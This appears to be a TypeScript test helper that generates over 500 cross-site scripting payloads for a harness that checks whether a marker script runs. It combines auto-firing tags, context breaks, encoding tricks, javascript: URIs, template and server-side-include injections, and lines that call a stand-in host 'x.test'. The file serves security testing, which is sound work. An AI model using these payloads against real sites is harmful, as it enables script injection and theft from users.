/** What a payload does if it runs; `watchForRuns` looks for it. */
const CODE = 'ran=1'

const CODES = [CODE, `window.${CODE}`, 'alert(1)', "fetch('//x.test')", 'location=`//x.test`']

/** Tags that load or start by themselves, with the handler that tells of it. */
const TAGS = [
  ['img src=x', 'onerror'],
  ['img src=/favicon.svg', 'onload'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['style', 'onload'],
  ['marquee', 'onstart'],
] as const

/** Ends of what a payload might stand in: an attribute, a script, a comment, a style, a template. */
const BREAKS = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  '</p>',
  '</title>',
  '</script>',
  '</style>',
  ']]>',
  '{{',
]

/** The same letters in other clothes. */
const CLOTHES: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replace('RAN', 'ran'),
  (text) => text.replace(/</g, '&lt;'),
  (text) => text.replace(/</g, '\\u003c'),
  (text) => text.replace(/</g, '%3C'),
  (text) => text.replace(/</g, '\uff1c'),
  (text) => text.replace(/ /g, '/'),
  (text) => text.replace('=', ' =\t'),
]

/** What is no tag and runs in the wrong place all the same. */
const BARE = CODES.flatMap((code) => [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java&#115;cript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `<script>${code}</script>`,
  `<scr<script>ipt>${code}</script>`,
  `<a href=javascript:${code}>x</a>`,
  `<base href=javascript:${code}//>`,
  `<form action=javascript:${code}><button>`,
  `<math><mi xlink:href=javascript:${code}>`,
  `{{constructor.constructor('${code}')()}}`,
  `\${${code}}`,
  `';${code}//`,
  `";${code}//`,
  `\\';${code}//`,
  `<!--#exec cmd="${code}"-->`,
])

/** More than 500 distinct texts that would run if a page took any of them for anything but text. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...TAGS.flatMap(([tag, handler]) =>
      BREAKS.map((ending) => `${ending}<${tag} ${handler}=${CODE}>`),
    ),
    ...TAGS.flatMap(([tag, handler]) => CLOTHES.map((wear) => wear(`<${tag} ${handler}=${CODE}>`))),
    ...TAGS.slice(0, 5).flatMap(([tag, handler]) =>
      CODES.flatMap((code) => BREAKS.map((ending) => `${ending}<${tag} ${handler}="${code}">`)),
    ),
    ...BARE,
  ]),
]
